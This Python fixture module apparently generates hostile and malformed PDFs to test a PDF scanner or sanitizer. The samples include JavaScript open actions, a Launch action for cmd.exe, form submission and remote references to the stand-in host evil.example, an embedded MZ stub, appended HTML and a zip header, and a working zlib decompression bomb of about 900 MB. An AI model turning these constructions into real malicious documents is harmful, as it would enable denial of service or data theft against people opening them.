"""PDFs that hold more than pages, made here; no file of anybody else's."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

WORD = "heron-lantern"


def made(change: Callable[[Any], None] | None = None, **options: Any) -> bytes:
    """Return a PDF of one page, changed before it is written."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _script() -> Any:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{WORD}')")


def _on_opening(pdf: Any) -> None:
    pdf.Root.OpenAction = _script()


def _in_the_names(pdf: Any) -> None:
    tree = Dictionary(Names=Array(["x", pdf.make_indirect(_script())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _as_a_stream(pdf: Any) -> None:
    script = Stream(pdf, f"app.alert('{WORD}')".encode())
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=script)


def _on_the_page(pdf: Any) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_script())


def link_of(**entries: Any) -> Callable[[Any], None]:
    """Return a change that adds a link with an action."""

    def change(pdf: Any) -> None:
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 9, 9]),
            A=Dictionary(**entries),
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])

    return change


def _note(subtype: str) -> Callable[[Any], None]:
    def change(pdf: Any) -> None:
        note = Dictionary(
            Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9])
        )
        pdf.pages[0].obj.Annots = Array([note])

    return change


def enclosing(name: str, data: bytes) -> Callable[[Any], None]:
    """Return a change that encloses a file."""

    def change(pdf: Any) -> None:
        pdf.attachments[name] = data

    return change


def _nested(pdf: Any) -> None:
    inner = Dictionary(X=1)
    for _ in range(200):
        inner = Dictionary(X=inner)
    pdf.Root.Deep = inner


def _next_action(pdf: Any) -> None:
    first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    first.Next = Array([_script()])
    pdf.Root.OpenAction = first


def _form(pdf: Any) -> None:
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp xmlns:xdp='x'/>")
    )


def _elsewhere(pdf: Any) -> None:
    page = Stream(pdf, b"")
    page.stream_dict["/F"] = "//evil.example/share/page"
    pdf.pages[0].obj.Contents = pdf.make_indirect(page)


def bomb(size: int = 900_000_000) -> bytes:
    """Return a PDF whose objects unpack to very many bytes."""
    packer = zlib.compressobj(9)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    head, body = block[:2], block[2:]
    packed = head + body * (size // 1_000_000) + b"\x03\x00"
    parts = [
        b"%PDF-1.5\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode() + b">>stream\n" + packed + b"\nendstream endobj\n",
    ]  # fmt: skip
    places, at = [], 0
    for part in parts:
        places.append(at)
        at += len(part)
    rows = [
        b"\x00\x00\x00\x00\x00",
        *(b"\x01" + one.to_bytes(3, "big") + b"\0" for one in places[1:3]),
        b"\x02\x00\x00\x04\x00",
        b"\x01" + places[3].to_bytes(3, "big") + b"\0",
        b"\x01" + at.to_bytes(3, "big") + b"\0",
    ]
    table = b"".join(rows)
    return b"".join(parts) + (
        b"5 0 obj<</Type/XRef/Size 6/W[1 3 1]/Root 1 0 R/Length "
        + str(len(table)).encode()
        + b">>stream\n" + table + b"\nendstream endobj\nstartxref\n"
        + str(at).encode() + b"\n%%EOF"
    )  # fmt: skip


LOOP = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n0\n%%EOF"
)
PLAIN = made()
INVOICE = made(enclosing("invoice.xml", b"<?xml version='1.0'?><invoice/>"))
PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
LOCKED = {"encryption": pikepdf.Encryption(owner="a", user="b", R=6)}

HOSTILE = {
    "script on opening": made(_on_opening),
    "script on opening, packed": made(_on_opening, **PACKED),
    "script in the names": made(_in_the_names, **PACKED),
    "script as a stream": made(_as_a_stream),
    "script on the page": made(_on_the_page),
    "script after a harmless action": made(_next_action),
    "launch": made(link_of(S=Name.Launch, F="cmd.exe")),
    "send the form": made(link_of(S=Name.SubmitForm, F="http://evil.example/")),
    "import": made(link_of(S=Name.ImportData, F="x.fdf")),
    "another file": made(link_of(S=Name.GoToR, F="//evil.example/a.pdf", D="x")),
    "a file inside": made(link_of(S=Name.GoToE, D="x")),
    "film": made(link_of(S=Name.Rendition, OP=0)),
    "enclosed program": made(enclosing("a.exe", b"MZ" + WORD.encode())),
    "enclosed page": made(enclosing("a.html", b"<script>1</script>")),
    "enclosed xml that defines": made(
        enclosing("a.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>")
    ),
    "pinned file": made(_note("/FileAttachment")),
    "rich media": made(_note("/RichMedia")),
    "sound": made(_note("/Sound")),
    "form of another kind": made(_form),
    "page kept elsewhere": made(_elsewhere),
    "locked": made(**LOCKED),
    "nested deep": made(_nested),
    "archive behind it": PLAIN + b"PK\x03\x04" + WORD.encode(),
    "page of the web behind it": PLAIN + b"<script>alert(1)</script>",
    "truncated": PLAIN[: len(PLAIN) // 3],
    "only a head": b"%PDF-1.7",
    "no page": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Size 3/Root 1 0 R>>\n%%EOF",
    "pages that hold themselves": LOOP,
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF",
}
